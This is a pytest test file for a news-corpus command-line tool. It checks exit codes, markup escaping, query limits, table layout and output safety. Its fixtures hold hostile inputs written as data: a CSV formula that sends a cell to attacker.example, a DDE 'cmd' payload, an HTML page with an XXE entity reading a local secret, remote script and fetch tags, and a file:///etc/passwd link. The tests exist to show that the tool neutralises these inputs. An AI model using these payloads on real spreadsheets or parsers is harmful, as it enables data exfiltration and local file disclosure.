"""The command line against hostile input and real folders (issue 10): nothing after a footer is
lost, user text is never markup, exit codes and one-line messages, CSV and HTML safety, and what
a user expects of tables, `show` and `extract -`."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import sys
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from typer.testing import CliRunner

from crimecli.cli import app

REPO = Path(__file__).resolve().parent.parent
WIRE = REPO / "tests" / "data" / "three_wire_stories.txt"
runner = CliRunner()


def run(*args: str, input: str | None = None):
    return runner.invoke(app, list(args), input=input)


def no_traceback(result) -> None:
    assert "Traceback" not in result.output and result.exception is None or isinstance(
        result.exception, SystemExit), result.output


def stderr_lines(result) -> list[str]:
    return [line for line in result.stderr.splitlines() if line.strip()]


def errors(result) -> list[str]:
    return [line for line in stderr_lines(result) if line.startswith("error:")]


# ---- nothing after a footer is lost -------------------------------------------------------


def story_sentences() -> list[str]:
    """Every sentence of the three stories' bodies (not their footers)."""
    lines = WIRE.read_text(encoding="utf-8").splitlines()
    paragraphs = [line for line in lines if len(line.split()) > 12]  # footer lines are short
    return [s for p in paragraphs for s in re.split(r"(?<=[.])\s+(?=[A-Z])", p.strip())]


def test_three_concatenated_wire_stories_every_sentence_is_found(tmp_path: Path) -> None:
    store = tmp_path / "store.sqlite"
    result = run("ingest", str(WIRE), "--store", str(store))
    assert result.exit_code == 0, result.output
    assert "words of boilerplate" in result.stderr  # the summary says what was set aside
    sentences = story_sentences()
    assert len(sentences) >= 10
    for sentence in sentences:
        words = " ".join(re.findall(r"[^\W_]+", sentence))
        hits = json.loads(run("search", f'"{words}"', "--store", str(store), "--json").stdout)
        assert hits, f"not found: {sentence}"
    # The last story's people and places are entities; a footer teaser's are not.
    names = {e["name"] for e in json.loads(run("entities", "--store", str(store), "--json").stdout)}
    assert {"Vicente Romero", "Callao", "Guillermo Lasso"} <= names
    assert "Sinaloa" not in names
    # ...but the footer is stored and searchable too.
    assert json.loads(run("search", "Sinaloa", "--store", str(store), "--json").stdout)


def test_extract_json_has_the_articles_and_boilerplate_blocks() -> None:
    result = run("extract", str(WIRE), "--json")
    assert result.exit_code == 0, result.output
    [record] = json.loads(result.stdout)
    assert [a["title"] for a in record["articles"]][2] == "Peru seizes record cocaine shipment bound for Belgium"
    assert [a["published"]["value"] for a in record["articles"]] == ["2023-03-03", "2023-06-12", "2023-09-08"]
    assert len(record["boilerplate"]) == 3
    assert record["body_end"] == len(WIRE.read_text(encoding="utf-8"))


# ---- user text is never rich markup -------------------------------------------------------


@pytest.mark.parametrize("args", [
    ["search", "foo[/bold]"], ["timeline", "Narnia[/]"], ["show", "[/]"],
    ["entities", "--country", "[/]"], ["search", "Peru", "--since", "[/]"],
    ["aliases", "[bold]x[/bold]"], ["search", "[red]"],
])
def test_markup_in_user_text_is_printed_as_typed(args: list[str]) -> None:
    result = run(*args)
    assert result.exit_code in (0, 1), result.output
    assert "MarkupError" not in result.output and "Traceback" not in result.output
    text = next(a for a in args[1:] if "[" in a)
    assert text in result.stderr or text in result.stdout


def test_brackets_and_emoji_codes_are_not_swallowed() -> None:
    assert "No sentence matches '[x]'" in run("search", "[x]").stderr
    result = run("search", "a:b:c")
    assert "'a:b:c'" in result.stderr and "\U0001f171" not in result.output


# ---- queries ------------------------------------------------------------------------------


def test_deeply_nested_query_is_refused_in_one_line() -> None:
    result = run("search", "(" * 500 + "cucuta" + ")" * 500)
    assert result.exit_code == 1
    [line] = stderr_lines(result)[-1:]
    assert "nests parentheses" in line and "Traceback" not in result.output
    assert len(line) < 400  # the query is not echoed whole


def test_a_query_of_thousands_of_words_is_refused_briefly() -> None:
    result = run("search", " OR ".join(f"w{i}" for i in range(2000)))
    assert result.exit_code == 1
    assert "at most" in result.stderr and len(result.stderr) < 600


def test_a_ten_kilobyte_query_is_not_echoed_whole() -> None:
    result = run("search", "word " * 2000 + "(")
    assert result.exit_code == 1
    [line] = errors(result)
    assert len(line) < 400 and "characters)" in line


# ---- exit codes and messages --------------------------------------------------------------


def test_a_folder_with_an_unsupported_file_is_skipped_not_refused(tmp_path: Path) -> None:
    folder = tmp_path / "inbox"
    folder.mkdir()
    (folder / "story.txt").write_text(WIRE.read_text(encoding="utf-8"), encoding="utf-8")
    (folder / "photo.png").write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(200))
    (folder / "table.xlsx").write_bytes(b"PK\x03\x04" + bytes(200))
    result = run("ingest", str(folder), "--store", str(tmp_path / "s.sqlite"))
    assert result.exit_code == 0, result.output
    assert "added 1," in result.stderr and "skipped 2" in result.stderr
    skipped = [line for line in stderr_lines(result) if line.startswith("skipped ")]
    assert [Path(line.split(":")[0].split(" ", 1)[1]).name for line in skipped] == ["photo.png", "table.xlsx"]
    # A second run: unchanged, still exit 0.
    again = run("ingest", str(folder), "--store", str(tmp_path / "s.sqlite"))
    assert again.exit_code == 0 and "unchanged 1" in again.stderr


@pytest.mark.parametrize("command", ["ingest", "extract"])
def test_a_missing_file_is_one_line_and_exit_1(tmp_path: Path, command: str) -> None:
    result = run(command, str(tmp_path / "nope.txt"), "--store", str(tmp_path / "s.sqlite")) \
        if command == "ingest" else run(command, str(tmp_path / "nope.txt"))
    assert result.exit_code == 1
    assert stderr_lines(result) == [f"error: {tmp_path / 'nope.txt'}: no such file or folder"]


@pytest.mark.parametrize("command", ["ingest", "extract"])
def test_an_unreadable_file_is_one_line_and_exit_1_not_a_usage_error(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, command: str) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text(WIRE.read_text(encoding="utf-8"), encoding="utf-8")
    real_access = os.access
    # As root every file is readable; deny this one the way a 0000 file is denied.
    monkeypatch.setattr(os, "access", lambda path, mode, *a, **k: False if str(path) == str(secret)
                        else real_access(path, mode, *a, **k))
    args = [command, str(secret)] + (["--store", str(tmp_path / "s.sqlite"), "--jobs", "1"]
                                     if command == "ingest" else [])
    result = run(*args)
    assert result.exit_code == 1, result.output
    assert stderr_lines(result) == [f"error: {secret}: permission denied"]


def test_dates_that_are_not_dates_are_refused() -> None:
    for value in ("-5", " ", "12", "+3"):
        result = run("timeline", "Colombia", "--since", value)
        assert result.exit_code == 1, value
        [line] = errors(result)
        assert line.startswith("error: --since:"), line


def test_a_range_that_ends_before_it_starts_is_refused() -> None:
    for command in (["timeline", "Colombia"], ["search", "Venezuela"]):
        result = run(*command, "--since", "2022", "--until", "2019")
        assert result.exit_code == 1
        [line] = errors(result)
        assert "--since '2022' is after --until '2019'" in line and "swap" in line


def test_an_unknown_kind_lists_the_kinds() -> None:
    result = run("timeline", "Colombia", "--kind", "nonsense")
    assert result.exit_code == 1
    [line] = errors(result)
    assert "unknown --kind 'nonsense'" in line and "extradition" in line and "sever diplomatic relations" in line
    ok = run("timeline", "Colombia", "--kind", "Extradition", "--json")  # any case
    assert ok.exit_code == 0 and all(r["kind"] == "extradition" for r in json.loads(ok.stdout))


def test_a_mistyped_command_suggests_once() -> None:
    result = run("ingst")
    assert result.exit_code == 2
    assert result.output.count("Did you mean 'ingest'?") == 1


# ---- what analysts open is safe -----------------------------------------------------------

FORMULAS = ('=HYPERLINK("http://attacker.example/x?leak="&A1,"Open the Cúcuta report") is how '
            "the police in Colombia labelled the file, officials said on 3 March 2021.\n\n"
            "@SUM(1+1)*cmd|' /C calc'!A0 was typed into the Venezuela seizure ledger in Caracas, "
            "according to the prosecutor's office.\n\n"
            "+57 300 000 0000 and -2 are numbers that the Colombia border report listed.\n")


def test_csv_cells_never_start_a_formula(tmp_path: Path) -> None:
    page = tmp_path / "formulas.txt"
    page.write_text("Spreadsheet test on the border\n\n" + FORMULAS, encoding="utf-8")
    store = tmp_path / "s.sqlite"
    assert run("ingest", str(page), "--store", str(store)).exit_code == 0
    checked = 0
    for args in (["search", "Colombia OR Venezuela"], ["entities"], ["aliases"]):
        result = run(*args, "--store", str(store), "--format", "csv")
        assert result.exit_code == 0, result.output
        for row in csv.reader(io.StringIO(result.stdout)):
            for cell in row:
                checked += 1
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert checked > 10
    sentences = [row[1] for row in csv.reader(io.StringIO(
        run("search", "Colombia OR Venezuela", "--store", str(store), "--format", "csv").stdout))]
    assert any(s.startswith("'=HYPERLINK(") for s in sentences)
    assert any(s.startswith("'@SUM(") for s in sentences)


class _Recorder(BaseHTTPRequestHandler):
    requests: list[str] = []

    def do_GET(self) -> None:  # noqa: N802 - the http.server API
        _Recorder.requests.append(self.path)
        self.send_response(200)
        self.end_headers()
        self.wfile.write(b"FETCHED-FROM-SERVER")

    def log_message(self, *args: object) -> None:
        pass


@pytest.fixture
def server():
    _Recorder.requests = []
    httpd = ThreadingHTTPServer(("127.0.0.1", 0), _Recorder)
    thread = threading.Thread(target=httpd.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{httpd.server_address[1]}"
    httpd.shutdown()
    httpd.server_close()


def test_html_never_fetches_executes_or_opens_files(tmp_path: Path, server: str) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-MARKER", encoding="utf-8")
    page = tmp_path / "page.html"
    paragraph = ("Colombian police arrested the alleged leader of the Clan del Golfo in Antioquia "
                 "on 3 March 2021, officials in Bogotá said, in the latest blow against the group.")
    page.write_text(f"""<!DOCTYPE html [<!ENTITY xxe SYSTEM "file://{secret}">]>
<html><head><title>Border report</title>
<meta http-equiv="refresh" content="0; url={server}/refresh">
<link rel="stylesheet" href="{server}/style.css"><link rel="import" href="file://{secret}">
<script src="{server}/script.js"></script>
<script>fetch("{server}/fetch"); document.write("INJECTED-BY-SCRIPT");</script>
</head><body><article><h1>Border report</h1>
<p>{paragraph}</p>
<img src="{server}/pixel.png"><img src="file://{secret}">
<iframe src="{server}/frame"></iframe><iframe src="file://{secret}"></iframe>
<object data="file://{secret}"></object><embed src="{server}/embed">
<p>{paragraph} &xxe;</p>
<p>See file://{secret} and {secret} for the notes; <a href="file:///etc/passwd">passwd</a>.</p>
</article></body></html>""", encoding="utf-8")
    store = tmp_path / "s.sqlite"
    outputs = [run("ingest", str(page), "--store", str(store), "--json"),
               run("extract", str(page), "--json"),
               run("show", "page.html", "--store", str(store), "--json"),
               run("search", "Clan", "--store", str(store), "--json")]
    for result in outputs:
        assert result.exit_code == 0, result.output
        assert "TOP-SECRET-MARKER" not in result.output
        assert "FETCHED-FROM-SERVER" not in result.output and "INJECTED-BY-SCRIPT" not in result.output
        assert "root:x:0:0" not in result.output
    assert json.loads(outputs[1].stdout)[0]["title"] == "Border report"
    assert _Recorder.requests == []


# ---- what a user expects ------------------------------------------------------------------


def test_extract_reads_standard_input() -> None:
    text = WIRE.read_text(encoding="utf-8")
    result = run("extract", "-", "--json", input=text)
    assert result.exit_code == 0, result.output
    [record] = json.loads(result.stdout)
    assert record["file"] == "<stdin>" and len(record["articles"]) == 3
    assert "Vicente Romero" in {e["name"] for e in record["entities"]}
    assert run("extract", "-", input="").exit_code == 1  # empty input: one line, exit 1


def test_show_piped_keeps_the_marks_in_plain_text() -> None:
    result = run("show", "001_166c45b11a889520.txt")
    assert result.exit_code == 0, result.output
    lines = result.stdout.splitlines()
    assert lines[0] == "Colombia asks for Venezuela’s cooperation to fight guerrillas, drug gangs"
    assert "[[Juan Carlos Pinzon|PERSON]]" in result.stdout
    assert "[[Los Rastrojos|ORG]]" in result.stdout and "[[On July 12|DATE" in result.stdout
    assert "{{" in result.stdout and result.stdout.count("{{") == result.stdout.count("}}")
    assert "\x1b[" not in result.stdout  # no colour codes in a pipe


def test_show_csv_is_refused_in_one_line() -> None:
    result = run("show", "001_166c45b11a889520.txt", "--format", "csv")
    assert result.exit_code == 1
    [line] = stderr_lines(result)[-1:]
    assert line.startswith("error: show prints one document") and "--json" in line


def test_show_into_head_exits_0(tmp_path: Path) -> None:
    env = {**os.environ, "PYTHONUNBUFFERED": "1"}
    run("show", "003_8935b5cdd3d6178b.txt")  # the bundled corpus is extracted into the cache
    process = subprocess.Popen([sys.executable, "-m", "crimecli", "show", "003_8935b5cdd3d6178b.txt"],
                               stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=env)
    first = process.stdout.readline()
    process.stdout.close()  # what `| head -1` does
    stderr = process.stderr.read().decode()
    assert process.wait(timeout=60) == 0, stderr
    assert first.startswith(b"Ties without Strings?")
    assert "BrokenPipe" not in stderr and "Exception ignored" not in stderr


@pytest.fixture
def terminal(monkeypatch: pytest.MonkeyPatch):
    """Tables as a person at a terminal of a given width sees them."""
    import crimecli.render
    import crimecli.views

    monkeypatch.setattr(crimecli.render, "stdout_is_terminal", lambda: True)
    monkeypatch.setattr(crimecli.views, "stdout_is_terminal", lambda: True)

    def at(width: int, *args: str) -> str:
        monkeypatch.setenv("COLUMNS", str(width))
        result = run(*args)
        assert result.exit_code == 0, result.output
        return result.stdout

    return at


@pytest.mark.parametrize("width", [80, 120])
def test_tables_fit_and_never_break_a_word(terminal, width: int) -> None:
    for args in (["timeline", "Colombia", "Venezuela"], ["entities", "--limit", "30"],
                 ["search", "Venezuela", "--limit", "10"], ["aliases"]):
        out = terminal(width, *args)
        table = [line for line in out.splitlines() if line[:1] in "┏┃┡│└"]
        assert table, args
        assert all(len(line) <= width for line in out.splitlines()), args
        cells = " ".join(line for line in table)
        for name in ("Venezuela", "Colombia", "Cooperation", "conflict"):
            prefix = name[:-1]
            assert not re.search(rf"{prefix}\s*│", cells), f"{name} broken in {args} at {width}"
    header = next(line for line in terminal(width, "timeline", "Colombia", "Venezuela").splitlines()
                  if "Kind" in line)
    kind = next(cell for cell in header.split("┃") if "Kind" in cell)
    assert len(kind) <= 16  # not 30 columns for "express intent to cooperate"


def test_tables_name_files_without_long_hashes_and_count_documents(terminal) -> None:
    out = terminal(120, "entities", "--limit", "5")
    assert "000_cd5059….txt" in out and "000_cd505946326ca5f5.txt" not in out
    assert re.search(r"\(\+\d+ more\)", out)  # Venezuela is in four files: two named, then a count


def test_piped_tables_keep_full_file_names() -> None:
    out = run("entities", "--limit", "5").stdout  # for grep and cut
    assert "000_cd505946326ca5f5.txt; 001_166c45b11a889520.txt" in out and "…" not in out


def test_a_file_name_that_is_not_utf8_is_refused_not_a_crash(tmp_path: Path) -> None:
    folder = tmp_path / "inbox"
    folder.mkdir()
    (folder / "story.txt").write_text(WIRE.read_text(encoding="utf-8"), encoding="utf-8")
    odd = os.path.join(os.fsencode(folder), b"informe_bogot\xe1.txt")  # a Latin-1 file system's name
    with open(odd, "wb") as f:
        f.write("Colombia and Venezuela signed an accord in Caracas on 3 March 2021.\n".encode())
    result = run("ingest", str(folder), "--store", str(tmp_path / "s.sqlite"))
    assert result.exit_code == 1 and isinstance(result.exception, SystemExit), result.exception  # no crash
    assert "added 1," in result.stderr
    [line] = [line for line in stderr_lines(result) if line.startswith("refused")]
    assert "informe_bogot" in line and "not valid UTF-8" in line
